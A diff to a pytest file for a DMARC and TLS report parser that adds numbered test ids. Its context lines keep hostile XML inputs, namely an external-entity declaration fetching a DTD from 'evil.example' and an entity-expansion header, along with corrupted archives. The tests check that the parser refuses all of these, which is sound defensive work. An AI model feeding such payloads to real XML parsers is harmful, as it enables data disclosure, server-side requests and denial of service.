@@ -12,7 +12,7 @@ from mailadmin.reports import dmarc, letters
 from mailadmin.reports.report import NoReport
 from mailadmin.reports.unpacking import MOST_UNPACKED
 from tests.reports.letters import dmarc as document
-from tests.reports.letters import message, record, tls, zipped
+from tests.reports.letters import message, numbered, record, tls, zipped
 
 XML = document()
 
@@ -32,6 +32,7 @@ XML = document()
         ("application/zip", zipped(zipped(XML))),
         ("application/gzip", gzip.compress(zipped(XML))),
     ],
+    ids=numbered,
 )
 def test_the_document_is_found_whatever_the_attachment_says_to_be(kind, packed):
     if kind == "text/plain":  # the library packs no bytes as text
@@ -129,6 +130,7 @@ def lying(packed):
         (gzip.compress(XML)[:-30], "the archive is cut off"),
         (gzip.compress(XML)[:10] + b"rubbish" * 9, "the archive is"),
     ],
+    ids=numbered,
 )
 def test_an_archive_that_cannot_be_right_is_refused(packed, why):
     with pytest.raises(NoReport, match=why):
@@ -150,6 +152,7 @@ def test_an_archive_that_cannot_be_right_is_refused(packed, why):
         message(b"%PDF-1.4"),
         message(b"MZ" + bytes(5000)),
     ],
+    ids=numbered,
 )
 def test_a_message_without_a_report_has_no_documents(letter):
     assert list(letters.documents(letter)) == []
@@ -185,6 +188,7 @@ ENTITIES = '<!DOCTYPE feedback [<!ENTITY a "aaaaaaaaaa">' + "".join(
         '<!DOCTYPE feedback [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>\n',
         "<!DOCTYPE feedback>\n",
     ],
+    ids=numbered,
 )
 def test_document_types_and_entities_are_refused(head):
     with pytest.raises(NoReport, match="a document type or an entity"):
@@ -203,6 +207,7 @@ def test_document_types_and_entities_are_refused(head):
         b"<feedback>\x00</feedback>",
         b"<feedback>\xed\xa0\x80</feedback>",
     ],
+    ids=numbered,
 )
 def test_xml_that_is_hostile_or_broken_is_refused(content):
     with pytest.raises(NoReport):
